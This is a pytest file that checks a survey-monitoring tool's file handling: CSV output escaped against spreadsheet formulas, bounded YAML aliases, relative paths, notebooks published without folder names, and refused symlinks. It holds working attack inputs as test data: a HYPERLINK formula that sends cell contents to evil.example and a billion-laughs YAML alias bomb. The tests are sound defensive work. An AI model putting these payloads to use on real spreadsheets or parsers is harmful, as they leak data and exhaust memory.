"""Files and inputs (issue 19, item 7): CSVs safe in a spreadsheet, YAML aliases bounded, relative
paths resolved once, published notebooks without the analyst's folders, no symlink followed."""

from __future__ import annotations

import io
import os
import re
import shutil
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest
import yaml

from monitor.core.config import DEMO_DATA, INSTRUMENT_PATH, NOTEBOOKS_DIR
from monitor.core.escaping import FORMULA_START, csv_safe
from monitor.core.files import SymlinkRefused, ensure_folder, locked
from monitor.core.yaml_files import YAMLBoundExceeded, load_yaml
from monitor.render.plan import check_arguments, published_parameters
from monitor.survey.instrument import InstrumentError, load_instrument
from monitor.survey.mapping import MappingError, load_mapping
from monitor.survey.synthetic import simulate, write_simulation

from .conftest import run_cli

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def _formula_cells(text: str) -> list[str]:
    """Cells of a CSV that a spreadsheet would run: text starting with = + - @ tab or CR (numbers aside)."""
    frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False, header=None)
    cells = [c for c in frame.to_numpy().ravel() if isinstance(c, str) and c.startswith(FORMULA_START)]
    return [c for c in cells if pd.to_numeric(pd.Series([c]), errors="coerce").isna().all()]


# -- 1. every CSV a command writes is safe in a spreadsheet -----------------------------------------


def test_csv_safe_escapes_text_and_labels_and_keeps_numbers():
    table = pd.DataFrame({"group": [FORMULA, "@SUM(A1)", "-x", "ok"], "n": [5, -3, 7, 8],
                          "mean": [-1.25, 2.0, 3.5, float("nan")]}).set_index("group")
    text = csv_safe(table).to_csv()
    assert _formula_cells(text) == []
    back = pd.read_csv(io.StringIO(text))
    assert back["n"].tolist() == [5, -3, 7, 8] and back["mean"].iloc[0] == -1.25  # numbers stay numbers
    assert back["group"].iloc[0] == "'" + FORMULA


def test_score_writes_no_formula_cells(tmp_path, small_sim):
    data = small_sim.responses.copy()
    first = data["region"].iloc[0]
    data["region"] = data["region"].replace({first: FORMULA})
    path = tmp_path / "responses.csv"
    data.to_csv(path, index=False)
    out = tmp_path / "scores.csv"
    result = run_cli("score", path, "--by", "region", "--out", out)
    assert result.returncode == 0, result.stderr
    text = out.read_text(encoding="utf-8")
    assert "'" + FORMULA.replace('"', '""') in text
    assert _formula_cells(text) == []
    scores = pd.read_csv(out)
    assert pd.api.types.is_numeric_dtype(scores["mean"]) and pd.api.types.is_integer_dtype(scores["n"].dropna())


def test_simulate_writes_no_formula_cells(tmp_path):
    sim = simulate(regions=2, respondents=40, waves=1, seed=3)
    sim.responses["region"] = sim.responses["region"].astype(object)
    sim.responses.loc[sim.responses.index[0], "region"] = FORMULA
    out, _truth = write_simulation(sim, tmp_path / "responses.csv")
    text = out.read_text(encoding="utf-8")
    assert _formula_cells(text) == [] and "'" + FORMULA.replace('"', '""') in text


def test_the_demo_data_are_what_the_simulator_writes_unchanged_by_escaping():
    frame = pd.read_csv(DEMO_DATA, dtype=str, keep_default_na=False)
    assert csv_safe(frame).equals(frame)  # escaping is a no-op on the committed demo data


# -- 2. YAML aliases are bounded ------------------------------------------------------------------

BOMB = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{n}: &{n} [{', '.join(['*' + p] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True))


def bomb(key: str) -> str:
    """``key: [...]`` whose value holds a billion-laughs bomb (9^9 values from under 400 bytes)
    where the loader's checks walk it (before the fix: a MemoryError after ~20 s and 2.5 GB)."""
    parts = ["&a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"] + [
        f"&{n} [{', '.join(['*' + p] * 9)}]" for p, n in zip("abcdefgh", "bcdefghi", strict=True)]
    return f"{key}: [{', '.join(parts)}]\n"


def _instrument_bomb(tmp_path) -> Path:
    path = tmp_path / "instrument.yaml"
    text = INSTRUMENT_PATH.read_text(encoding="utf-8")
    path.write_text(re.sub(r"^version:.*$", bomb("version").rstrip(), text, count=1, flags=re.M), encoding="utf-8")
    return path


def test_the_bombs_are_small_files():
    assert len(BOMB.encode()) <= 1024 and len(bomb("ignore").encode()) <= 1024


@pytest.mark.parametrize("text, problem", [
    (BOMB, "billion laughs"),
    ("a: &a [x, *a]\n", "contains it"),
    ("x: " + "[" * 400 + "]" * 400 + "\n", "nested deeper"),
])
def test_a_bounded_loader_refuses_in_one_line_and_fast(text, problem):
    start = time.perf_counter()
    with pytest.raises(YAMLBoundExceeded) as caught:
        load_yaml(text)
    assert time.perf_counter() - start < 1
    assert problem in str(caught.value) and "\n" not in str(caught.value)


def test_aliases_within_the_bound_are_read():
    raw = load_yaml("agree: &agree {1: eens, 2: oneens}\nq1: *agree\nq2: *agree\n")
    assert raw["q1"] == raw["q2"] == {1: "eens", 2: "oneens"}


def test_a_mapping_file_with_an_alias_bomb_ends_in_one_line(tmp_path):
    path = tmp_path / "mapping.yaml"
    path.write_text("columns:\n  region: region\n" + bomb("ignore"), encoding="utf-8")
    start = time.perf_counter()
    with pytest.raises(MappingError) as caught:
        load_mapping(path, load_instrument())
    assert time.perf_counter() - start < 1
    message = str(caught.value)
    assert message.startswith(str(path)) and "billion laughs" in message and "\n" not in message


def test_an_instrument_file_with_an_alias_bomb_ends_in_one_line(tmp_path):
    path = _instrument_bomb(tmp_path)
    start = time.perf_counter()
    with pytest.raises(InstrumentError) as caught:
        load_instrument(path)
    assert time.perf_counter() - start < 1
    assert "billion laughs" in str(caught.value) and "\n" not in str(caught.value)


def test_the_cli_reports_an_alias_bomb_in_one_line(tmp_path):
    path = _instrument_bomb(tmp_path)
    result = run_cli("--instrument", path, "check", DEMO_DATA)
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and "billion laughs" in result.stderr and "Traceback" not in result.stderr


def test_the_projects_own_yaml_files_read_with_the_bounded_loader():
    for path in (INSTRUMENT_PATH, INSTRUMENT_PATH.with_name("interventions.yaml")):
        assert load_yaml(path.read_text(encoding="utf-8")) == yaml.safe_load(path.read_text(encoding="utf-8"))


# -- 3. relative paths are resolved once ----------------------------------------------------------


def test_a_relative_out_is_made_absolute_before_any_notebook_runs(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    base = check_arguments(None, None, "nl", 5, 10, "relative/reports")
    assert base.is_absolute() and base == tmp_path / "relative" / "reports"


# -- 4. published notebooks name the data file without its folder -----------------------------------


def test_published_parameters_name_files_without_their_folders():
    published = published_parameters({"data_path": "/home/analyst/geheim/wave.csv", "instrument_path": None,
                                       "mapping_path": "/home/analyst/geheim/map.yaml", "region": "Noord"}, "ab" * 32)
    assert published == {"data_path": "wave.csv", "mapping_path": "map.yaml", "data_sha256": "ab" * 32}


# -- 5. no symbolic link is followed -------------------------------------------------------------


def test_a_planted_symlink_at_the_lock_is_refused(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep", encoding="utf-8")
    (tmp_path / ".status.lock").symlink_to(victim)
    with pytest.raises(SymlinkRefused, match=r"\.status\.lock is a symbolic link"), locked(tmp_path / ".status.lock"):
        pass
    dangling = tmp_path / "dangling.lock"
    dangling.symlink_to(tmp_path / "would-be-created")
    with pytest.raises(SymlinkRefused), locked(dangling):
        pass
    assert not (tmp_path / "would-be-created").exists() and victim.read_text(encoding="utf-8") == "keep"


def test_an_output_folder_that_is_a_symlink_is_refused(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "validity_tables").symlink_to(elsewhere)
    with pytest.raises(SymlinkRefused, match="validity_tables is a symbolic link"):
        ensure_folder(tmp_path / "validity_tables")
    assert ensure_folder(tmp_path / "new" / "tables").is_dir()


def test_export_table_refuses_a_symlinked_tables_folder(tmp_path):
    from monitor.analyses.tables import export_table

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "thesis_tables").symlink_to(elsewhere)
    with pytest.raises(SymlinkRefused):
        export_table(pd.DataFrame({"x": [1.0]}), "t", tmp_path / "thesis_tables", "T")
    assert not list(elsewhere.iterdir())


# -- the render, end to end (3, 4 and 5) ---------------------------------------------------------------


@pytest.fixture(scope="module")
def relative_render(tmp_path_factory):
    """``monitor render`` run from a folder of its own with a relative --data and --out: the
    validity notebook and one region report."""
    home = tmp_path_factory.mktemp("analyst")
    (home / "geheim").mkdir()
    shutil.copy(DEMO_DATA, home / "geheim" / "wave.csv")
    before = {p.name for p in NOTEBOOKS_DIR.iterdir()}
    region = pd.read_csv(DEMO_DATA, usecols=["region"])["region"].sort_values().iloc[0]
    result = run_cli("render", "--data", "geheim/wave.csv", "--out", "out", "--only", "validity,regions",
                     "--region", region, "--jobs", "1", "--format", "html", "--quiet", cwd=home)
    return home, before, result


@pytest.mark.slow
def test_a_relative_out_puts_the_tables_in_the_output_folder(relative_render):
    home, before, result = relative_render
    assert result.returncode == 0, result.stderr
    wave = home / "out" / "2026"
    assert list((wave / "validity_tables").glob("*.csv")), sorted(p.name for p in wave.iterdir())
    assert {p.name for p in NOTEBOOKS_DIR.iterdir()} == before  # nothing new in the checkout's notebooks/


@pytest.mark.slow
def test_no_published_file_holds_the_data_files_folder(relative_render):
    home, _before, result = relative_render
    assert result.returncode == 0, result.stderr
    folder = str(home / "geheim")
    published = [p for p in (home / "out").rglob("*") if p.is_file()]
    assert any(p.suffix == ".ipynb" for p in published)
    leaking = [p.name for p in published if folder in p.read_text(encoding="utf-8", errors="replace")
               or os.path.realpath(folder) in p.read_text(encoding="utf-8", errors="replace")]
    assert leaking == []
    for path in (home / "out" / "2026").glob("*.ipynb"):
        notebook = nbformat.read(path, as_version=4)
        assert notebook.metadata.papermill["parameters"]["data_path"] == "wave.csv"
        assert len(notebook.metadata.papermill["parameters"]["data_sha256"]) == 64
        injected = [c for c in notebook.cells if "injected-parameters" in c.metadata.get("tags", [])]
        assert "data_path = \"wave.csv\"" in injected[0].source and "-p data_path" in injected[0].source


@pytest.mark.slow
@pytest.mark.parametrize("planted", ["2026", "2026/validity_tables", "2026/.status.lock"])
def test_render_refuses_a_planted_symlink_before_any_notebook_runs(tmp_path, planted):
    out = tmp_path / "out"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    target = out / planted
    target.parent.mkdir(parents=True, exist_ok=True)
    target.symlink_to(elsewhere if not planted.endswith(".lock") else elsewhere / "lock")
    result = run_cli("render", "--out", out, "--only", "validity", "--quiet")
    assert result.returncode != 0
    assert result.stderr.count("\n") == 1 and f"{target} is a symbolic link" in result.stderr, result.stderr
    assert not list(elsewhere.iterdir())
